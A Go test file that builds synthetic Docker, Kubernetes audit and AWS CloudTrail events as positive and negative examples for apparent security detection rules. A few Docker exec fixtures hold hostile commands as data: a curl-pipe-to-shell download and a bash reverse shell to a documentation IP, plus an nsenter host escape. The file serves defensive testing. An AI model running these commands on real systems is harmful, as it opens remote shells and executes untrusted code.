package content_test

import (
	"fmt"
	"strings"
	"time"
)

// container is a Docker event of a container, with an image and a name.
func container(action, image, name string) []event {
	return docker("container", action, fmt.Sprintf(`"image":%q,"name":%q`, image, name), image)
}

func docker(kind, action, attributes, from string) []event {
	return logs(fmt.Sprintf(`{"integration":"docker","docker":{"status":%q,"id":"9f","from":%q,"Type":%q,"Action":%q,"Actor":{"ID":"9f","Attributes":{%s}},"scope":"local","time":1795308881,"timeNano":1795308881123456789}}`, action, from, kind, action, attributes))
}

func failed(name string) []event {
	return docker("container", "die", fmt.Sprintf(`"image":"shop","name":%q,"exitCode":"1"`, name), "shop")
}

// kube is a finished request to Kubernetes; more are further members of the event.
func kube(user, verb, resource, namespace, name string, code int, more ...string) []event {
	return kubeAt("ResponseComplete", user, verb, resource, namespace, name, code, more...)
}

func kubeAt(stage, user, verb, resource, namespace, name string, code int, more ...string) []event {
	s := fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"7c","stage":%q,"requestURI":"/api/v1/namespaces/%s/%s/%s","verb":%q,"user":{"username":%q,"groups":["system:authenticated"]},"sourceIPs":["203.0.113.7"],"userAgent":"kubectl/v1.31","objectRef":{"resource":%q,"namespace":%q,"name":%q,"apiVersion":"v1"`,
		stage, namespace, resource, name, verb, user, resource, namespace, name)
	rest := ""
	for _, m := range more {
		if strings.HasPrefix(m, `"subresource"`) { // it belongs to the object
			s += "," + m
			continue
		}
		rest += "," + m
	}
	return logs(s + fmt.Sprintf(`},"responseStatus":{"metadata":{},"code":%d}%s}`, code, rest))
}

// subresource is a part of the object asked for.
func subresource(name string) string { return `"subresource":"` + name + `"` }

func podSpec(spec string) string { return `"requestObject":{"spec":{` + spec + `}}` }

// kubeURI is a request to an address that names no object.
func kubeURI(user, verb, resource, uri string, code int) []event {
	return logs(fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"7c","stage":"ResponseComplete","requestURI":%q,"verb":%q,"user":{"username":%q},"sourceIPs":["203.0.113.7"],"objectRef":{"resource":%q,"apiVersion":"v1"},"responseStatus":{"code":%d}}`, uri, verb, user, resource, code))
}

func refusedKinds(n int) []event {
	var out []event
	for i := range n {
		out = append(out, kube("ann", "list", fmt.Sprintf("kind%d", i), "default", "", 403)...)
	}
	return out
}

func secretsRead(user string, n int) []event {
	var out []event
	for i := range n {
		out = append(out, kube(user, "get", "secrets", "default", fmt.Sprintf("s%d", i), 200)...)
	}
	return out
}

// trail is a call of the AWS API by an IAM user; more are further members of the record.
func trail(service, name, more string) []event {
	return trailBy(`"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/ann","userName":"ann"`, service, name, more)
}

func trailBy(identity, service, name, more string) []event {
	if more != "" {
		more = "," + more
	}
	return logs(fmt.Sprintf(`{"integration":"aws","aws":{"log_info":{"aws_account_alias":"","log_file":"a.json.gz","s3bucket":"trail"},"eventVersion":"1.09","userIdentity":{%s},"eventTime":"2026-11-22T00:58:01Z","eventSource":"%s.amazonaws.com","eventName":%q,"awsRegion":"eu-central-1","sourceIPAddress":"203.0.113.7","userAgent":"aws-cli/2","eventType":"AwsApiCall","source":"cloudtrail"%s}}`, identity, service, name, more))
}

const root = `"type":"Root","arn":"arn:aws:iam::111122223333:root","accountId":"111122223333"`

func params(p string) string { return `"requestParameters":{` + p + `}` }

func consoleLogin(result, from string) []event {
	return logs(fmt.Sprintf(`{"integration":"aws","aws":{"userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/ann","userName":"ann"},"eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","sourceIPAddress":%q,"responseElements":{"ConsoleLogin":%q},"additionalEventData":{"MFAUsed":"Yes"},"eventType":"AwsConsoleSignIn","source":"cloudtrail"}}`, from, result))
}

func refusedCalls(n int) []event {
	var out []event
	for i := range n {
		out = append(out, trail("ec2", fmt.Sprintf("Describe%d", i), `"errorCode":"Client.UnauthorizedOperation"`)...)
	}
	return out
}

func awsSecrets(n int) []event {
	var out []event
	for i := range n {
		out = append(out, trail("secretsmanager", "GetSecretValue", params(fmt.Sprintf(`"secretId":"s%d"`, i)))...)
	}
	return out
}

func dockerd(level, text string) []event {
	return syslog("dockerd[612]", `time="2026-11-22T00:58:01.123456789Z" level=`+level+` msg="`+text+`"`)
}

var cloudExamples = []example{
	// Docker
	eg(903000, docker("daemon", "reload", `"name":"web1"`, ""), logs(`{"integration":"dockers","docker":{"Type":"daemon"}}`)),
	eg(903001, container("start", "nginx", "web"), container("stop", "nginx", "web")),
	eg(903002, container("stop", "nginx", "web"), then(container("start", "nginx", "web"), failed("shop"))),
	eg(903003, failed("shop"), docker("container", "die", `"image":"shop","name":"shop","exitCode":"143"`, "shop")),
	{903004, [][]event{times(5, failed("shop"))}, [][]event{times(4, failed("shop")), then(times(4, failed("shop")), failed("mail")), slowly(80*time.Second, times(5, failed("shop")))}},
	eg(903005, container("oom", "shop", "shop"), container("start", "shop", "oom")),
	eg(903006, container("health_status: unhealthy", "shop", "shop"), container("health_status: healthy", "shop", "shop")),
	eg(903010, container("exec_create: python manage.py migrate", "shop", "shop"), container("exec_start: python manage.py migrate", "shop", "shop")),
	eg(903011, then(container("exec_create: /bin/sh -c curl -f http://localhost/ || exit 1", "shop", "shop"), container("exec_create: pg_isready -U app", "postgres", "db")), then(container("exec_create: /bin/sh", "shop", "shop"), container("exec_create: /bin/sh -c curl http://203.0.113.9/a | sh", "shop", "shop"))),
	eg(903012, then(container("exec_create: /bin/bash", "shop", "shop"), container("exec_create: sh -i", "shop", "shop")), container("exec_create: sh -c date", "shop", "shop")),
	eg(903013, container("exec_create: nsenter -t 1 -m sh", "shop", "shop"), container("exec_create: ls /mnt", "shop", "shop")),
	eg(903014, container("exec_create: bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", "shop", "shop"), container("exec_create: tar -x", "shop", "shop")),
	eg(903020, docker("image", "pull", `"name":"nginx:1"`, ""), docker("image", "prune", `"reclaimed":"0"`, "")),
	eg(903021, container("commit", "shop", "shop"), container("attach", "shop", "shop")),
	eg(903022, container("archive-path", "shop", "shop"), container("attach", "shop", "shop")),
	eg(903023, then(docker("volume", "mount", `"container":"9f","destination":"/var/run/docker.sock","driver":"local"`, ""), docker("volume", "mount", `"container":"9f","destination":"/host","driver":"local"`, "")), docker("volume", "mount", `"container":"9f","destination":"/data","driver":"local"`, "")),
	eg(903024, docker("secret", "create", `"name":"db"`, ""), docker("config", "create", `"name":"db"`, "")),
	eg(903025, docker("plugin", "enable", `"name":"x/y"`, ""), docker("plugin", "disable", `"name":"x/y"`, "")),
	eg(903026, container("start", "someone/xmrig:latest", "x"), container("start", "someone/notes", "xmrig")),
	eg(903027, docker("network", "create", `"name":"front"`, ""), docker("network", "connect", `"name":"front"`, "")),
	eg(903050, dockerd("info", "Loading containers: done."), syslog("dockerd-rootless[612]", "Loading containers: done.")),
	eg(903051, dockerd("error", "Handler for POST /v1.47/containers/create returned error"), dockerd("warning", "no such image")),
	eg(903052, dockerd("warning", "[DEPRECATION NOTICE]: API is accessible on http://0.0.0.0:2375 without encryption."), dockerd("info", "API listen on /run/docker.sock")),

	// Kubernetes
	eg(903100, kube("ann", "get", "pods", "default", "shop", 200), logs(`{"kind":"Event","apiVersion":"v1","verb":"get"}`)),
	eg(903101, kubeAt("RequestReceived", "ann", "create", "pods", "default", "shop", 0), kube("ann", "create", "pods", "default", "shop", 201)),
	eg(903102, kube("", "get", "pods", "default", "shop", 401), kube("ann", "get", "pods", "default", "shop", 403)),
	{903103, [][]event{times(10, kube("", "get", "pods", "default", "shop", 401))}, [][]event{times(9, kube("", "get", "pods", "default", "shop", 401)), slowly(20*time.Second, times(10, kube("", "get", "pods", "default", "shop", 401)))}},
	eg(903104, kube("ann", "get", "pods", "default", "shop", 403), kube("ann", "get", "pods", "default", "shop", 404)),
	{903105, [][]event{refusedKinds(8)}, [][]event{refusedKinds(7), times(8, kube("ann", "get", "pods", "default", "shop", 403))}},
	eg(903106, kube("system:anonymous", "get", "pods", "default", "shop", 200), then(kube("system:anonymous", "get", "pods", "default", "shop", 403), kubeURI("system:anonymous", "get", "", "/healthz", 200))),
	eg(903107, kubeURI("system:anonymous", "get", "", "/livez?exclude=etcd", 200), kubeURI("system:anonymous", "get", "", "/api/v1/pods", 200)),
	eg(903108, then(kube("system:anonymous", "get", "secrets", "default", "db", 200), kubeAt("ResponseStarted", "system:anonymous", "create", "pods", "default", "shop", 101, subresource("exec"))), kube("system:anonymous", "get", "secrets", "default", "db", 403)),
	eg(903110, kubeAt("ResponseStarted", "ann", "create", "pods", "default", "shop", 101, subresource("exec")), then(kube("ann", "create", "pods", "default", "shop", 101, subresource("exec")), kubeAt("ResponseStarted", "ann", "get", "pods", "default", "shop", 200, subresource("log")))),
	eg(903111, kubeAt("ResponseStarted", "ann", "create", "pods", "kube-system", "etcd", 101, subresource("exec")), kubeAt("ResponseStarted", "ann", "create", "pods", "kube-systems", "etcd", 101, subresource("exec"))),
	eg(903112, kubeAt("ResponseStarted", "system:serviceaccount:default:shop", "create", "pods", "default", "shop", 101, subresource("exec")), kubeAt("ResponseStarted", "ann", "create", "pods", "default", "shop", 101, subresource("exec"))),
	eg(903113, kubeAt("ResponseStarted", "ann", "create", "pods", "default", "shop", 101, subresource("portforward")), kube("ann", "create", "pods", "default", "shop", 101, subresource("portforward"))),
	eg(903114, kube("ann", "patch", "pods", "default", "shop", 200, subresource("ephemeralcontainers")), kube("ann", "patch", "pods", "default", "shop", 200, subresource("status"))),
	eg(903120, kube("ann", "patch", "deployments", "default", "shop", 200, podSpec(`"replicas":3`)), kube("ann", "get", "deployments", "default", "shop", 200)),
	eg(903121, kube("system:serviceaccount:kube-system:replicaset-controller", "create", "pods", "default", "shop", 201, podSpec(`"containers":[{"name":"a","securityContext":{"privileged":true}}]`)), kube("system:serviceaccount:default:shop", "create", "pods", "default", "shop", 201)),
	eg(903122, kube("ann", "create", "pods", "default", "shop", 201, podSpec(`"containers":[{"name":"a","securityContext":{"privileged":true}}]`)), then(kube("ann", "create", "pods", "default", "shop", 201, podSpec(`"containers":[{"name":"a","securityContext":{"privileged":false}}]`)), kube("ann", "create", "pods", "default", "shop", 403, podSpec(`"containers":[{"name":"a","securityContext":{"privileged":true}}]`)))),
	eg(903123, kube("ann", "create", "daemonsets", "default", "shop", 201, `"requestObject":{"spec":{"template":{"spec":{"hostPID":true}}}}`), kube("ann", "create", "daemonsets", "default", "shop", 201, `"requestObject":{"spec":{"template":{"spec":{"hostPID":false}}}}`)),
	eg(903124, kube("ann", "create", "pods", "default", "shop", 201, podSpec(`"volumes":[{"name":"r","hostPath":{"path":"/","type":""}}]`)), kube("ann", "create", "pods", "default", "shop", 201, podSpec(`"volumes":[{"name":"r","hostPath":{"path":"/srv/data","type":""}}]`))),
	eg(903125, kube("ann", "create", "pods", "default", "shop", 201, podSpec(`"containers":[{"name":"a","securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}}]`)), kube("ann", "create", "pods", "default", "shop", 201, podSpec(`"containers":[{"name":"a","securityContext":{"capabilities":{"add":["NET_BIND_SERVICE"],"drop":["ALL"]}}}]`))),
	eg(903126, kube("ann", "create", "cronjobs", "default", "clean", 201), kube("ann", "update", "cronjobs", "default", "clean", 200)),
	eg(903127, kube("ann", "create", "pods", "default", "shop", 201), kube("ann", "patch", "pods", "default", "shop", 200)),
	eg(903128, kube("system:serviceaccount:kube-system:x", "create", "pods", "default", "shop", 201, subresource("binding")), kube("ann", "create", "pods", "default", "shop", 201)),
	eg(903130, kube("system:kube-controller-manager", "list", "secrets", "default", "", 200), kube("ann", "get", "secrets", "default", "db", 200)),
	eg(903131, kube("ann", "get", "secrets", "default", "db", 200), then(kube("system:serviceaccount:kube-system:x", "get", "secrets", "default", "db", 200), kube("ann", "get", "secrets", "default", "db", 403))),
	eg(903132, kubeURI("ann", "list", "secrets", "/api/v1/secrets?limit=500", 200), kubeURI("ann", "list", "secrets", "/api/v1/namespaces/default/secrets?limit=500", 200)),
	{903133, [][]event{secretsRead("ann", 10)}, [][]event{secretsRead("ann", 9), times(10, secretsRead("ann", 1))}},
	eg(903134, kube("ann", "create", "serviceaccounts", "default", "shop", 201, subresource("token")), kube("system:node:n1", "create", "serviceaccounts", "default", "shop", 201, subresource("token"))),
	eg(903140, kube("ann", "create", "rolebindings", "default", "dev", 201, `"requestObject":{"roleRef":{"kind":"Role","name":"view"}}`), kube("ann", "get", "rolebindings", "default", "dev", 200)),
	eg(903141, kube("ann", "create", "clusterrolebindings", "", "x", 201, `"requestObject":{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"}}`), kube("ann", "create", "clusterrolebindings", "", "x", 201, `"requestObject":{"roleRef":{"kind":"ClusterRole","name":"cluster-admins-view"}}`)),
	eg(903142, kube("ann", "create", "clusterrolebindings", "", "x", 201, `"requestObject":{"subjects":[{"kind":"Group","name":"system:unauthenticated"}],"roleRef":{"name":"view"}}`), kube("ann", "create", "clusterrolebindings", "", "x", 201, `"requestObject":{"subjects":[{"kind":"Group","name":"system:authenticated"}],"roleRef":{"name":"view"}}`)),
	eg(903143, kube("ann", "update", "roles", "default", "dev", 200, `"requestObject":{"rules":[{"verbs":["get"],"resources":["pods"]}]}`), kube("ann", "list", "roles", "default", "", 200)),
	eg(903144, kube("ann", "create", "clusterroles", "", "x", 201, `"requestObject":{"rules":[{"verbs":["*"],"resources":["*"]}]}`), kube("ann", "create", "clusterroles", "", "x", 201, `"requestObject":{"rules":[{"verbs":["get"],"resources":["pods"]}]}`)),
	eg(903145, kube("ann", "get", "nodes", "", "n1", 200, `"impersonatedUser":{"username":"system:admin"}`), kube("ann", "get", "nodes", "", "n1", 200, `"impersonatedUser":{"username":"bob"}`)),
	eg(903146, kube("ann", "update", "certificatesigningrequests", "", "csr1", 200, subresource("approval")), kube("ann", "create", "certificatesigningrequests", "", "csr1", 201)),
	eg(903150, kube("ann", "create", "mutatingwebhookconfigurations", "", "x", 201), kube("ann", "get", "mutatingwebhookconfigurations", "", "x", 200)),
	eg(903151, kube("ann", "delete", "namespaces", "", "shop", 200), kube("ann", "create", "namespaces", "", "shop", 201)),
	eg(903152, kube("ann", "deletecollection", "events", "default", "", 200), kube("ann", "list", "events", "default", "", 200)),
	eg(903153, kube("ann", "patch", "configmaps", "kube-system", "coredns", 200), kube("ann", "patch", "configmaps", "default", "coredns", 200)),
	eg(903154, kube("ann", "delete", "networkpolicies", "default", "deny", 200), kube("ann", "create", "networkpolicies", "default", "deny", 201)),
	eg(903155, kube("ann", "get", "nodes", "", "n1", 200, subresource("proxy")), kube("ann", "get", "nodes", "", "n1", 200, subresource("status"))),

	// AWS
	eg(903200, trail("ec2", "DescribeInstances", ""), logs(`{"integration":"aws","aws":{"source":"vpc","eventName":"x"}}`)),
	eg(903201, trail("ec2", "DescribeInstances", `"errorCode":"Client.InvalidInstanceID.NotFound"`), trail("ec2", "DescribeInstances", "")),
	eg(903202, trail("s3", "GetObject", `"errorCode":"AccessDenied"`), trail("s3", "GetObject", `"errorCode":"NoSuchKey"`)),
	{903203, [][]event{refusedCalls(8)}, [][]event{refusedCalls(7), times(8, refusedCalls(1))}},
	eg(903210, consoleLogin("Success", "203.0.113.7"), consoleLogin("Failure", "203.0.113.7")),
	eg(903211, consoleLogin("Failure", "203.0.113.7"), consoleLogin("Success", "203.0.113.7")),
	{903212, [][]event{times(6, consoleLogin("Failure", "203.0.113.7"))}, [][]event{times(5, consoleLogin("Failure", "203.0.113.7")), then(times(5, consoleLogin("Failure", "203.0.113.7")), consoleLogin("Failure", "203.0.113.8"))}},
	{903213, [][]event{then(times(6, consoleLogin("Failure", "203.0.113.7")), consoleLogin("Success", "203.0.113.7"))}, [][]event{then(times(5, consoleLogin("Failure", "203.0.113.7")), consoleLogin("Success", "203.0.113.7")), then(times(6, consoleLogin("Failure", "203.0.113.7")), consoleLogin("Success", "203.0.113.8"))}},
	eg(903214, trail("signin", "ConsoleLogin", `"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}`), trail("signin", "ConsoleLogin", `"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"Yes"}`)),
	eg(903215, trailBy(root, "signin", "ConsoleLogin", `"responseElements":{"ConsoleLogin":"Success"}`), trailBy(root, "signin", "ConsoleLogin", `"responseElements":{"ConsoleLogin":"Failure"},"errorMessage":"Failed authentication"`)),
	eg(903216, trailBy(root, "ec2", "CreateVpc", ""), then(trailBy(root, "ec2", "DescribeVpcs", ""), trail("ec2", "CreateVpc", ""))),
	eg(903217, trailBy(root, "iam", "CreateAccessKey", ""), trail("iam", "CreateAccessKey", params(`"userName":"bob"`))),
	eg(903220, trail("iam", "CreateAccessKey", params(`"userName":"bob"`)), trail("iam", "ListAccessKeys", params(`"userName":"bob"`))),
	eg(903221, trail("iam", "DeleteAccessKey", params(`"userName":"bob"`)), trail("sts", "DeleteAccessKey", params(`"userName":"bob"`))),
	eg(903222, trail("iam", "CreateUser", params(`"userName":"bob"`)), trail("iam", "GetUser", params(`"userName":"bob"`))),
	eg(903223, trail("iam", "UpdateLoginProfile", params(`"userName":"bob"`)), trail("iam", "GetLoginProfile", params(`"userName":"bob"`))),
	eg(903224, trail("iam", "AttachUserPolicy", params(`"userName":"bob","policyArn":"arn:aws:iam::aws:policy/ReadOnlyAccess"`)), trail("iam", "AttachUserPolicy", params(`"userName":"bob","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"`))),
	eg(903225, trail("iam", "AttachUserPolicy", params(`"userName":"bob","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"`)), trail("iam", "AttachUserPolicy", params(`"userName":"bob","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess-Amplify"`))),
	eg(903226, trail("iam", "PutUserPolicy", params(`"userName":"bob","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"`)), trail("iam", "PutUserPolicy", params(`"userName":"bob","policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\",\"Resource\":\"*\"}]}"`))),
	eg(903227, trail("iam", "DeactivateMFADevice", params(`"userName":"bob"`)), trail("iam", "EnableMFADevice", params(`"userName":"bob"`))),
	eg(903228, trail("iam", "UpdateAssumeRolePolicy", params(`"roleName":"ops"`)), trail("iam", "UpdateRoleDescription", params(`"roleName":"ops"`))),
	eg(903230, trail("cloudtrail", "StopLogging", params(`"name":"main"`)), then(trail("cloudtrail", "StartLogging", params(`"name":"main"`)), trail("cloudtrail", "StopLogging", `"errorCode":"AccessDenied"`))),
	eg(903231, trail("cloudtrail", "UpdateTrail", params(`"name":"main"`)), trail("cloudtrail", "GetTrail", params(`"name":"main"`))),
	eg(903232, trail("guardduty", "DeleteDetector", params(`"detectorId":"1"`)), trail("guardduty", "GetDetector", params(`"detectorId":"1"`))),
	eg(903233, trail("logs", "DeleteLogGroup", params(`"logGroupName":"app"`)), trail("logs", "CreateLogGroup", params(`"logGroupName":"app"`))),
	eg(903234, trail("guardduty", "UpdateDetector", params(`"detectorId":"1","enable":false`)), trail("guardduty", "UpdateDetector", params(`"detectorId":"1","enable":true`))),
	eg(903240, then(trail("s3", "PutBucketAcl", params(`"bucketName":"b","x-amz-acl":["public-read"]`)), trail("s3", "PutBucketAcl", params(`"bucketName":"b","AccessControlPolicy":{"AccessControlList":{"Grant":[{"Grantee":{"URI":"http://acs.amazonaws.com/groups/global/AllUsers"}}]}}`))), trail("s3", "PutBucketAcl", params(`"bucketName":"b","x-amz-acl":["private"]`))),
	eg(903241, trail("s3", "PutBucketPolicy", params(`"bucketName":"b","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject"}]}`)), trail("s3", "PutBucketPolicy", params(`"bucketName":"b","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111122223333:role/x"},"Action":"*"}]}`))),
	eg(903242, trail("s3", "DeleteBucketPublicAccessBlock", params(`"bucketName":"b"`)), trail("s3", "GetBucketPublicAccessBlock", params(`"bucketName":"b"`))),
	eg(903243, trail("s3", "PutBucketPublicAccessBlock", params(`"bucketName":"b","PublicAccessBlockConfiguration":{"BlockPublicAcls":false}`)), trail("s3", "PutBucketPublicAccessBlock", params(`"bucketName":"b","PublicAccessBlockConfiguration":{"BlockPublicAcls":true}`))),
	eg(903244, trail("s3", "DeleteBucket", params(`"bucketName":"b"`)), trail("s3", "HeadBucket", params(`"bucketName":"b"`))),
	eg(903245, then(trail("ec2", "ModifySnapshotAttribute", params(`"snapshotId":"s","createVolumePermission":{"add":{"items":[{"group":"all"}]}}`)), trail("rds", "ModifyDBSnapshotAttribute", params(`"valuesToAdd":["all"]`))), trail("ec2", "ModifySnapshotAttribute", params(`"snapshotId":"s","createVolumePermission":{"add":{"items":[{"userId":"111122223333"}]}}`))),
	eg(903246, trail("rds", "ModifyDBInstance", params(`"dBInstanceIdentifier":"d","publiclyAccessible":true`)), trail("rds", "ModifyDBInstance", params(`"dBInstanceIdentifier":"d","publiclyAccessible":false`))),
	eg(903247, trail("kms", "ScheduleKeyDeletion", params(`"keyId":"k"`)), trail("kms", "EnableKey", params(`"keyId":"k"`))),
	eg(903248, trail("secretsmanager", "GetSecretValue", params(`"secretId":"s"`)), trail("secretsmanager", "ListSecrets", "")),
	{903249, [][]event{awsSecrets(12)}, [][]event{awsSecrets(11), times(12, awsSecrets(1))}},
	eg(903250, trail("ec2", "AuthorizeSecurityGroupIngress", params(`"groupId":"sg","ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]}}]}`)), trail("ec2", "DescribeSecurityGroups", "")),
	eg(903251, trail("ec2", "AuthorizeSecurityGroupIngress", params(`"groupId":"sg","ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}`)), trail("ec2", "AuthorizeSecurityGroupEgress", params(`"groupId":"sg","ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}`))),
	eg(903252, trail("ec2", "RunInstances", ""), trail("ec2", "DescribeInstances", "")),
	eg(903253, trail("ec2", "GetPasswordData", params(`"instanceId":"i"`)), trail("ec2", "GetConsoleOutput", params(`"instanceId":"i"`))),
	eg(903254, trail("ssm", "SendCommand", params(`"documentName":"AWS-RunShellScript"`)), trail("ssm", "ListCommands", "")),
	{903255, [][]event{times(15, trail("ec2", "RunInstances", ""))}, [][]event{times(14, trail("ec2", "RunInstances", "")), slowly(20*time.Second, times(15, trail("ec2", "RunInstances", "")))}},
	eg(903256, trail("lambda", "UpdateFunctionCode20150331v2", params(`"functionName":"f"`)), trail("lambda", "GetFunction20150331v2", params(`"functionName":"f"`))),
	eg(903257, trail("organizations", "LeaveOrganization", ""), trail("organizations", "DescribeOrganization", "")),
}
